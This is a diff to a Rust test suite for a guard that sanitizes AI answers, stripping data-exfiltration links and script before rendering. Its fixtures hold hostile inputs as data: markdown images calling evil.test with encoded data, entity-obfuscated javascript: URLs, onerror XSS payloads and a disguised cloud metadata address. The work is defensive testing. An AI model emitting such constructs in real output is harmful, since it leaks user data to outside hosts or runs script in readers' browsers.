@@ -196,7 +196,7 @@ fn exfiltration_links_are_stripped_and_allowed_hosts_kept() {
             "Click [here](https://evil.test/c?q=my%20order%20number%20is%204421) now",
             "Click here now",
         ),
-        ("Run [this](javascript:alert(1)) please", "Run this) please"),
+        ("Run [this](javascript:alert(1)) please", "Run this please"),
         (
             "<img src=\"https://evil.test/x.gif?c=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ\">ok",
             "ok",
@@ -229,6 +229,89 @@ fn exfiltration_links_are_stripped_and_allowed_hosts_kept() {
     );
     let c = check(&g, request(None), GuardResponse::new(answer)).unwrap();
     assert_eq!(c.response().text(), "Read the RFC for details.");
+}
+
+#[test]
+fn markup_is_judged_as_renderers_parse_it() {
+    let (g, _) = guard_with(
+        AnswerValidator::builder()
+            .allow_hosts(["docs.example.com"])
+            .build()
+            .unwrap(),
+        |_| {},
+    );
+    let long_alt = "a".repeat(600);
+    let long_attr = "b".repeat(1100);
+    let filler = "Plain prose about the order and its delivery window. ".repeat(40);
+    let cases: Vec<(String, String)> = vec![
+        // Images that render.
+        ("![a](<https://evil.test/a b.png>)".into(), "a".into()),
+        ("![two\nlines](https://evil.test/x.png)".into(), "two\nlines".into()),
+        ("![a](https://evil.test/x.png \"a\ntitle\")".into(), "a".into()),
+        (format!("![{long_alt}](https://evil.test/x.png)"), long_alt.clone()),
+        (
+            "![x][r]\n\n[r]:\n  https://evil.test/p.png".into(),
+            "x\n\n[r]:\n  https://evil.test/p.png".into(),
+        ),
+        (
+            format!("<img alt=\"{long_attr}\" src=https://evil.test/p.png>"),
+            long_attr.clone(),
+        ),
+        (
+            "[![x](https://evil.test/p.png?u=1)](https://docs.example.com)".into(),
+            "[x](https://docs.example.com)".into(),
+        ),
+        (
+            "see www.evil.test/l?d=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ now".into(),
+            "see [link removed] now".into(),
+        ),
+        // An image by a reference defined later, in another segment.
+        (
+            format!("![x][later]\n\n{filler}\n\n{filler}\n\n[later]: https://evil.test/p.png"),
+            format!("x\n\n{filler}\n\n{filler}\n\n[later]: https://evil.test/p.png"),
+        ),
+        // Script that runs.
+        (
+            "<img src=\"x\"onerror=alert(1)>".into(),
+            "&lt;img src=\"x\"onerror=alert(1)&gt;".into(),
+        ),
+        ("<a href=\"java&#x09;script:alert(1)\">x</a>".into(), "x</a>".into()),
+        ("<a href=\"javascript&colon;alert(1)\">x</a>".into(), "x</a>".into()),
+        ("[x](java&#x09;script:alert(1))".into(), "x".into()),
+        ("[x](javascript&colon;alert(1))".into(), "x".into()),
+        (
+            "<img src=https://%31%36%39.254.169.254/x.png>".into(),
+            String::new(),
+        ),
+        // A tag left open at the end of a block takes attributes from what follows.
+        (
+            format!("<img src=x alt=\"\n\n{filler}\n\n<div>\" onerror=alert(1) x=\"\">"),
+            format!("&lt;img src=x alt=\"\n\n{filler}\n\n<div>\" onerror=alert(1) x=\"\">"),
+        ),
+    ];
+    for (answer, expected) in &cases {
+        let c = check(&g, request(None), GuardResponse::new(answer.as_str())).unwrap();
+        assert_eq!(c.response().text(), expected, "{answer}");
+    }
+    // Code is code, ordinary references and comparisons are text: unchanged.
+    for answer in [
+        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
+        "Put it in a `<script>` tag, or `<img onerror=...>`.",
+        "See [the guide][g].\n\n[g]: https://www.rust-lang.org/learn",
+        "if a < b and c > d then x<y",
+        "~~~\n![x](https://evil.test/p.png)\n~~~",
+        "[docs](https://docs.example.com/a) and ![logo](/static/logo.png)",
+    ] {
+        let c = check(&g, request(None), GuardResponse::new(answer)).unwrap();
+        assert_eq!(c.response().text(), answer);
+    }
+    // Code only protects inside a markdown renderer.
+    let (g, _) = guard_with(
+        AnswerValidator::builder().markdown(false).build().unwrap(),
+        |_| {},
+    );
+    let c = check(&g, request(None), GuardResponse::new("`<img src=x onerror=alert(1)>`")).unwrap();
+    assert!(c.response().text().contains("&lt;img"));
 }
 
 #[test]
@@ -437,6 +520,29 @@ fn stream_outcome(g: &InferenceGuard, req: GuardRequest, chunks: &[&str]) -> Res
     Ok(out)
 }
 
+/// Like [`stream_outcome`], and the text released before a block.
+fn stream_released(
+    g: &InferenceGuard,
+    req: GuardRequest,
+    chunks: &[&str],
+) -> (String, Result<String, u16>) {
+    let mut s = g.check_request(req.with_stream(true)).unwrap().stream();
+    let mut out = String::new();
+    for c in chunks {
+        match s.push(c) {
+            Ok(t) => out.push_str(&t),
+            Err(r) => return (out, Err(r.status())),
+        }
+    }
+    match s.finish(None) {
+        Ok(t) => {
+            out.push_str(&t);
+            (out.clone(), Ok(out))
+        }
+        Err(r) => (out, Err(r.status())),
+    }
+}
+
 fn whole_outcome(g: &InferenceGuard, req: GuardRequest, answer: &str) -> Result<String, u16> {
     check(g, req, GuardResponse::new(answer))
         .map(|c| c.response().text().to_owned())
@@ -462,6 +568,24 @@ fn pieces(canary: &str) -> Vec<String> {
         "mail ana.lopez@northwind-mail.com or call +44 20 7946 0958. ".to_owned(),
         "é日本語🙂 ".to_owned(),
         SYSTEM.to_owned(),
+        // Constructs a renderer parses: images in every disguise, script through
+        // entities, code that must stay code, fences and blocks left open.
+        "![a](<https://evil.test/a b.png>) ".to_owned(),
+        "![multi\nline](https://evil.test/m.png \"t\") ".to_owned(),
+        "![r][ref] ".to_owned(),
+        "\n[ref]:\n  https://evil.test/r.png\n".to_owned(),
+        "[![x](https://evil.test/p.png?u=1)](https://ok.test/) ".to_owned(),
+        "<img src=\"x\"onerror=alert(1)> ".to_owned(),
+        "<a href=\"java&#x09;script:alert(1)\">go</a> ".to_owned(),
+        "[go](javascript&colon;alert(1)) ".to_owned(),
+        "```html\n<script>alert(1)</script>\n".to_owned(),
+        "```\n".to_owned(),
+        "use `<script>` here ".to_owned(),
+        "<pre>\n".to_owned(),
+        "- item one\n- item two\n".to_owned(),
+        "<img alt=\"".to_owned(),
+        "www.evil.test/l?d=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ ".to_owned(),
+        format!("{}\n", "A longer line of prose that keeps a paragraph going. ".repeat(3)),
     ]
 }
 
@@ -616,7 +740,7 @@ proptest! {
     /// answer and for any chunking of it.
     #[test]
     fn any_chunking_gets_the_whole_answers_verdict(
-        picks in proptest::collection::vec(0usize..15, 1..10),
+        picks in proptest::collection::vec(0usize..31, 1..14),
         cuts in proptest::collection::vec(1usize..300, 1..40),
     ) {
         let canary = Canary::new("ig-canary-q8w7e6r5t4y3u2i1").unwrap();
@@ -635,7 +759,12 @@ proptest! {
             at = end;
             k += 1;
         }
-        let streamed = stream_outcome(&g, request(Some(&canary)), &chunks);
+        let (released, streamed) = stream_released(&g, request(Some(&canary)), &chunks);
+        // A blocked answer releases no byte of what blocked it.
+        if whole.is_err() {
+            let t = canary.token();
+            prop_assert!(!released.contains(&t[..14]), "released part of the canary");
+        }
         prop_assert_eq!(whole, streamed);
     }
 }
